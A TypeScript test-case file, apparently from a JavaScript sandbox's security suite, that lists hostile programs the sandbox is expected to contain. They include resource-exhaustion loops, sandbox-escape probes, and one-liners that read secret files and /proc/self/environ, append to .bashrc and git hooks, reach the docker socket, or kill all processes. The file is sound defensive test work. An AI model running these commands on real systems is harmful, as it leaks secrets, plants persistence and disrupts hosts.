import type { Control, HostileCase, ProgramCase } from "../types.js";

type Attack = Pick<ProgramCase, "numbers" | "name" | "program" | "ends"> &
  Partial<Pick<ProgramCase, "control" | "limits" | "prints" | "waits" | "before">>;

const HOST_PROBE = `
function reach(value) {
  // Whatever belongs to the host shows as a process, a require or a global with them.
  const seen = [];
  for (const make of [() => value.constructor.constructor("return globalThis")(), () => value.constructor.constructor("return this")()]) {
    try {
      const found = make();
      const outer = found.process;
      if (outer && outer.binding) seen.push("binding");
      if (outer && outer.mainModule) seen.push("mainModule");
      if (outer && outer.env && Object.keys(outer.env).length > 0) seen.push("env");
      if (found.WebSocket || found.fetch) seen.push("fetch");
      if (found !== globalThis) seen.push("another global");
    } catch {}
  }
  return seen.length === 0 ? "nothing" : seen.join();
}`;

const PRINTS: Control = { program: "console.log('é')", prints: "é" };

const ATTACKS: readonly Attack[] = [
  {
    numbers: [1],
    name: "busy loop",
    program: "console.log('on'); for (;;) {}",
    ends: ["wall-time"],
    limits: { wallMs: 700 },
    waits: true,
    prints: "on",
  },
  {
    numbers: [2],
    name: "waits for ever",
    program: "setInterval(() => {}, 1000); console.log('on')",
    ends: ["wall-time"],
    limits: { wallMs: 700 },
    waits: true,
    prints: "on",
    control: { program: "setTimeout(() => console.log('done'), 30)", prints: "done" },
  },
  {
    numbers: [8],
    name: "catastrophic regex",
    program: "/^(a+)+$/.test('a'.repeat(40) + 'b')",
    ends: ["wall-time"],
    limits: { wallMs: 700 },
    waits: true,
    control: { program: "console.log(/^(a+)+$/.test('aaa'))", prints: "true" },
  },
  {
    numbers: [9],
    name: "microtask starvation",
    program:
      "const again = () => Promise.resolve().then(again); again(); setTimeout(() => console.log('never'), 0)",
    ends: ["wall-time", "memory"],
    limits: { wallMs: 700 },
    waits: true,
    control: { program: "Promise.resolve().then(() => console.log('once'))", prints: "once" },
  },
  {
    numbers: [10],
    name: "touched allocation",
    program: "const kept = []; for (;;) kept.push(new Array(1e5).fill(kept.length + 0.5))",
    ends: ["memory"],
    control: { program: "console.log(new Array(1e5).fill(1).length)", prints: "100000" },
  },
  {
    numbers: [13],
    name: "infinite recursion",
    program: "const f = () => f() + 1; try { f() } catch (error) { console.log('caught') }",
    ends: ["exited"],
    prints: "caught",
    control: { program: "const f = (n) => n === 0 ? 0 : 1 + f(n - 1); console.log(f(3000))", prints: "3000" },
  },
  {
    numbers: [14],
    name: "giant spread",
    program: "Math.max(...new Array(3e7).fill(1))",
    ends: ["exited", "memory"],
    control: { program: "console.log(Math.max(...new Array(1000).fill(7)))", prints: "7" },
  },
  {
    numbers: [15],
    name: "JSON.parse amplification",
    program: "let text = '[]'; for (;;) { text = '[' + text + ',' + text + ']'; JSON.parse(text) }",
    ends: ["memory", "exited", "wall-time"],
    limits: { wallMs: 5000 },
    control: { program: "console.log(JSON.parse('[1,[2]]')[1][0])", prints: "2" },
  },
  {
    numbers: [16],
    name: "native buffers",
    program: "const kept = []; for (;;) kept.push(new Uint8Array(16 * 1024 * 1024).fill(1))",
    ends: ["memory"],
    control: { program: "console.log(new Uint8Array(1024 * 1024).fill(3)[9])", prints: "3" },
  },
  {
    numbers: [17],
    name: "parser overflow by a giant eval",
    program: "try { (0, eval)('['.repeat(2e6)) } catch (error) { console.log('caught') }",
    ends: ["exited", "memory"],
    control: { program: "console.log((0, eval)('1 + 1'))", prints: "2" },
  },
  {
    numbers: [18],
    name: "a large object across the bridge",
    program: "console.log('x'.repeat(3 * 1024 * 1024)); const { test } = require('node:test');",
    ends: ["output"],
    control: { program: "console.log('x'.repeat(1000).length)", prints: "1000" },
  },
  {
    numbers: [31],
    name: "endless stdout",
    program: "for (;;) console.log('y'.repeat(999))",
    ends: ["output"],
  },
  {
    numbers: [32],
    name: "stderr flood",
    program: "for (;;) console.error('y'.repeat(999))",
    ends: ["output"],
  },
  {
    numbers: [33],
    name: "a lone surrogate",
    program: "process.stdout.write('a\\ud800b')",
    ends: ["exited"],
    prints: "a\ufffdb",
    control: { program: "process.stdout.write('\\u{1F600}')", prints: "\u{1F600}" },
  },
  {
    numbers: [34],
    name: "NUL bytes",
    program: "process.stdout.write('a\\0b')",
    ends: ["exited"],
    prints: "a\0b",
  },
  {
    numbers: [70],
    name: "constructor.constructor",
    program: `${HOST_PROBE}\nfor (const value of [console.log, process.exit, setTimeout, require, process, require("node:test"), setTimeout(() => {}, 1)]) console.log(reach(value))`,
    ends: ["exited"],
    prints: `${"nothing\n".repeat(7)}`,
  },
  {
    numbers: [71],
    name: "prepareStackTrace and CallSite",
    program: `${HOST_PROBE}
const found = [];
Error.prepareStackTrace = (error, frames) => { for (const frame of Array.isArray(frames) ? frames : []) found.push(frame.getThis?.(), frame.getFunction?.()); return "" };
try { require("no-such-module") } catch (error) { void error.stack }
void new Error("x").stack;
console.log(found.filter((value) => value !== undefined && value !== globalThis).map(reach).filter((text) => text !== "nothing").join() || "nothing")`,
    ends: ["exited"],
    prints: "nothing",
  },
  {
    numbers: [72],
    name: "proxy traps",
    program: `${HOST_PROBE}
const caught = [];
const trap = new Proxy(function () {}, { get: (target, key, receiver) => { caught.push(receiver); return key === Symbol.toPrimitive ? () => "x" : trap }, apply: (target, self, args) => { caught.push(self, ...args); return "x" }, has: () => true, getPrototypeOf: (target) => { caught.push(target); return null } });
try { require("node:util").inspect(trap) } catch {}
try { require(trap) } catch {}
try { process.exitCode = trap } catch {}
try { setTimeout(trap, trap) } catch {}
process.exitCode = 0;
console.log((caught.map((value) => { try { return reach(value) } catch { return "nothing" } }).filter((text) => text !== "nothing").join() || "nothing"))`,
    ends: ["exited"],
    prints: "nothing",
  },
  {
    numbers: [73],
    name: "Symbol.species that returns itself",
    program:
      "class Own extends Array { static get [Symbol.species]() { return Own } } const list = Own.from([1, 2, 3]); console.log(list.map((x) => x + 1).length, list.constructor === Own)",
    ends: ["exited"],
    prints: "3 true",
  },
  {
    numbers: [74],
    name: "polluted prototypes",
    program:
      "for (const proto of [Object.prototype, Array.prototype, Function.prototype, String.prototype, Promise.prototype]) for (const key of ['then', 'type', 'status', 'exitCode', 'toJSON', 'length0', 'map', 'push', 'call', 'apply']) { try { Object.defineProperty(proto, key, { value: () => 0, writable: true, configurable: true }) } catch {} }",
    ends: ["exited"],
  },
  {
    numbers: [75],
    name: "an unhandled rejection",
    program: "console.log('on'); Promise.reject(new Error('nobody listens'))",
    ends: ["exited"],
    prints: "on",
    control: { program: "Promise.reject(new Error('x')).catch(() => console.log('heard'))", prints: "heard" },
  },
  {
    numbers: [76],
    name: "AggregateError smuggling",
    program: `${HOST_PROBE}\ntry { require("no-such") } catch (error) { const all = new AggregateError([error]); console.log(all.errors.map(reach).join()) }`,
    ends: ["exited"],
    prints: "nothing",
  },
  {
    numbers: [77],
    name: "WebAssembly",
    program:
      "if (typeof WebAssembly === 'undefined') console.log('nothing'); else { const m = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); new WebAssembly.Instance(m); console.log('nothing') }",
    ends: ["exited"],
    prints: "nothing",
  },
  {
    numbers: [78],
    name: "dynamic import",
    program:
      "Promise.allSettled(['node:fs/promises', 'fs/promises', 'node:child_process', 'data:text/javascript,export default 1', 'file:///etc/passwd', '../../../etc/passwd'].map((name) => { try { return import(name) } catch (error) { return Promise.reject(error) } })).then((all) => console.log(all.map((one) => one.status).join()))",
    ends: ["exited"],
    prints: "rejected,rejected,rejected,rejected,rejected,rejected",
  },
  {
    numbers: [79],
    name: "references kept past their use",
    program: `${HOST_PROBE}\nconst kept = Object.getOwnPropertyNames(globalThis).map((name) => globalThis[name]).filter(Boolean); setTimeout(() => console.log(kept.map(reach).filter((text) => text !== "nothing").join() || "nothing"), 20)`,
    ends: ["exited"],
    prints: "nothing",
  },
  {
    numbers: [80],
    name: "resized buffers",
    program:
      "const buffer = new ArrayBuffer(8, { maxByteLength: 64 }); const view = new Uint8Array(buffer); if (buffer.resize) buffer.resize(0); console.log(String(view[0])); process.stdout.write(view);",
    ends: ["exited"],
  },
];

/** Each prints "refused", or what it got hold of. */
const REACHES: readonly (readonly [number, string])[] = [
  [38, `require("node:fs").readFileSync("@SECRET@", "utf8")`],
  [38, `require("node:fs").writeFileSync("@SECRET@", "changed")`],
  [44, `require("node:fs").readFileSync("/proc/self/environ", "utf8")`],
  [44, `require("node:fs").readFileSync("/proc/self/root@SECRET@", "utf8")`],
  [46, `require("node:fs").appendFileSync("@FOLDER@/.git/hooks/post-checkout", "x")`],
  [46, `require("node:fs").appendFileSync("/root/.bashrc", "x")`],
  [58, `require("node:net").connect("/var/run/docker.sock")`],
  [58, `require("node:net").connect("@SOCKET@")`],
  [61, `require("node:dgram").createSocket("udp4")`],
  [62, `require("node:dns").lookup("planted-secret.example.org", () => {})`],
  [65, `require("node:net").connect(@PORT@, "127.0.0.1")`],
  [65, `require("node:http").get("http://127.0.0.1:@PORT@/")`],
  [65, `fetch("http://127.0.0.1:@PORT@/")`],
  [65, `new WebSocket("ws://127.0.0.1:@PORT@/")`],
  [66, `require("node:net").connect("\\0@ABSTRACT@")`],
  [69, `new XMLHttpRequest().open("GET", "http://127.0.0.1:@PORT@/")`],
  [5, `require("node:child_process").execSync("cat @SECRET@").toString()`],
  [19, `require("node:child_process").spawn("sleep", ["1000"])`],
  [20, `new (require("node:worker_threads").Worker)("for (;;) {}", { eval: true })`],
  [23, `process.kill(-1, "SIGKILL")`],
  [23, `process.kill(@PROCESS@, "SIGKILL")`],
  [60, `require("node:fs").readSync(3, new Uint8Array(8))`],
  [60, `process.send({ type: "end" })`],
  [91, `process.env.AGENTOS_PLANTED.length && JSON.stringify(process.env)`],
  [91, `process.binding("fs")`],
  [93, `require("node:fs").openSync("/proc/sys/kernel/core_pattern", "r+")`],
  [57, `require("node:fs").readdirSync("/sys/fs/cgroup").join()`],
];

const LEFT_BEHIND: Attack = {
  numbers: [30, 82],
  name: "what one run left is not there for the next",
  before: "globalThis.left = 1; Object.prototype.left = 2; require('node:assert').left = 3;",
  program: "console.log(typeof globalThis.left, typeof ({}).left, typeof require('node:assert').left)",
  ends: ["exited"],
  prints: "undefined undefined undefined",
};

const SPLIT_ESCAPES: Attack = {
  numbers: [37],
  name: "terminal escapes",
  program: "process.stdout.write('\\u001b[31m|\\u001b]0;title\\u0007')",
  ends: ["exited"],
  prints: "\u001b[31m|\u001b]0;title\u0007",
};

const LONG_LINE: Attack = {
  numbers: [35],
  name: "one long line",
  program: "const block = 'x'.repeat(1e6); for (let i = 0; i < 100; i++) process.stdout.write(block)",
  ends: ["output"],
};

function realm(attack: Attack): HostileCase {
  return {
    kind: "program",
    drivers: ["isolate", "quickjs"],
    language: "javascript",
    control: PRINTS,
    ...attack,
  };
}

/** JavaScript programs for drivers that give a bare engine: nothing of Node's is to be reached. */
export const REALM_CASES: readonly HostileCase[] = [
  ...[...ATTACKS, LEFT_BEHIND, SPLIT_ESCAPES, LONG_LINE].map(realm),
  {
    kind: "program",
    drivers: ["isolate", "quickjs"],
    language: "javascript",
    numbers: [...new Set(REACHES.map(([number]) => number))],
    name: "files, processes, sockets and variables of the host",
    program: REACHES.map(
      ([number, code]) =>
        `try { console.log(${number}, "reached", String(${code}).slice(0, 80)) } catch { console.log(${number}, "refused") }`,
    ).join("\n"),
    ends: ["exited"],
    attempts: true,
    control: PRINTS,
  },
];
